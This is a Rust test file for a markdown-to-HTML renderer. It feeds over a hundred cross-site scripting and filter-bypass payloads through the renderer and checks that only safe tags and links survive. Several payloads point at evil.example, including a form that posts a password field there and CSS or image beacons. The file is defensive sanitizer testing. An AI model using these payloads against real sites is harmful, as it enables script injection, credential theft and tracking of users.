//! What somebody might write to make a page do something. Every answer is taken apart as a browser would take it, and may hold nothing but
//! the few elements that the texts of cases are made of.

use super::to_html;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use std::cell::RefCell;

/// All that may be left.
const ELEMENTS: [&str; 10] = ["p", "ul", "ol", "li", "em", "strong", "a", "br", "h3", "h4"];

/// Elements that run scripts, and ways to open them that filters overlook.
const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script\u{0}>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "Text <script>alert(1)",
    "- <script>\n- alert(1)\n- </script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
];

/// Event handlers on all kinds of elements.
const HANDLERS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<em onfocus=alert(1) tabindex=0 autofocus>x</em>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a \u{c} onclick=alert(1)>x</a>",
    "[a](<https://example.org\" onmouseover=\"alert(1)>)",
    "[a](https://example.org 'x\" onmouseover=\"alert(1)')",
    "[a\" onmouseover=\"alert(1)](https://example.org)",
];

/// Addresses that are programs or documents of their own.
const ADDRESSES: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<java&#9;script:alert(1)>)",
    "[x](<java&NewLine;script:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:https://example.org/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/abmelden)",
    "[x](?token=1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][y]\n\n[y]: <data:text/html,x> 'Titel'",
    "![x](javascript:alert(1))",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"https://example.org\" ping=\"https://evil.example\">x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
];

/// Styles, which hide, cover and tell tales.
const STYLES: &[&str] = &[
    "<style>*{display:none}</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<p style=\"background:url(https://evil.example/?)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<em class=\"bar\" id=\"main\">x</em>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<p style=\"behavior:url(x.htc)\">x</p>",
];

/// Forms, which ask for what nobody should type there, and send it elsewhere.
const FORMS: &[&str] = &[
    "<form action=https://evil.example><input name=kennwort><button>Anmelden</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=https://evil.example>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option>x</select>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "- [ ] eine Aufgabe",
];

/// Foreign content and what embeds other documents.
const FOREIGN: &[&str] = &[
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<applet code=x></applet>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<frameset><frame src=x></frameset>",
    "<portal src=https://evil.example>",
    "![Bild](https://evil.example/zaehler.png)",
    "![Bild][x]\n\n[x]: https://evil.example/zaehler.png",
];

/// What is meant for the parser itself.
const PARSERS: &[&str] = &[
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <iframe src=x>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "# <img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "*<b onclick=alert(1)>*x</b>",
    "<p\u{0} onclick=alert(1)>",
    "\u{feff}<script>alert(1)</script>",
    "<ı onclick=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "<table><tr><td><a href=javascript:alert(1)>",
    "<p><plaintext><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><img src=\"</title><img src=x onerror=alert(1)>\">",
];

/// The tags of a text, as a browser reads them.
#[derive(Default)]
struct Tags(RefCell<Vec<Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.0.borrow_mut().push(tag),
            Token::CommentToken(_) | Token::DoctypeToken(_) => panic!("neither comments nor declarations may be left"),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn tags(html: &str) -> Vec<Tag> {
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(html.into());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    tokenizer.sink.0.take()
}

/// What is wrong with the HTML that a text became.
fn harm(html: &str) -> Option<String> {
    for tag in tags(html) {
        if !ELEMENTS.contains(&&*tag.name) {
            return Some(format!("the element {}", tag.name));
        }
        for attribute in tag.attrs.iter().filter(|_| tag.kind == TagKind::StartTag) {
            let is_harmless = &*tag.name == "a"
                && match &*attribute.name.local {
                    "href" => attribute.value.starts_with("https://") || attribute.value.starts_with("http://"),
                    "rel" => &*attribute.value == "nofollow noopener noreferrer",
                    _ => false,
                };
            if !is_harmless {
                return Some(format!("{}=\"{}\" on {}", attribute.name.local, attribute.value, tag.name));
            }
        }
    }
    None
}

#[test]
fn no_text_becomes_anything_but_text_and_links() {
    let classes = [
        ("scripts", SCRIPTS),
        ("handlers", HANDLERS),
        ("addresses", ADDRESSES),
        ("styles", STYLES),
        ("forms", FORMS),
        ("foreign", FOREIGN),
        ("parsers", PARSERS),
    ];
    assert!(classes.iter().map(|(_, texts)| texts.len()).sum::<usize>() >= 100);
    for (class, texts) in classes {
        for text in texts {
            // Alone, within a sentence, in a list, and in a link's text.
            for shaped in [
                (*text).to_owned(),
                format!("Davor {text} danach"),
                format!("- eins\n- {text}\n"),
                format!("[{text}](https://example.org/)"),
            ] {
                let html = to_html(&shaped);
                assert_eq!(harm(&html), None, "{class}: {shaped:?} became {html:?}");
            }
        }
    }
}

#[test]
fn the_judge_sees_what_is_harmful() {
    for html in ["<script>", "<p onclick=x>", "<a href=javascript:x>", "<a href=\"/x\">", "<em style=x>", "<svg>", "<form>", "<img src=x>"]
    {
        assert!(harm(html).is_some(), "{html}");
    }
    assert_eq!(harm("<p>a <a href=\"https://example.org\" rel=\"nofollow noopener noreferrer\">b</a></p>"), None);
}
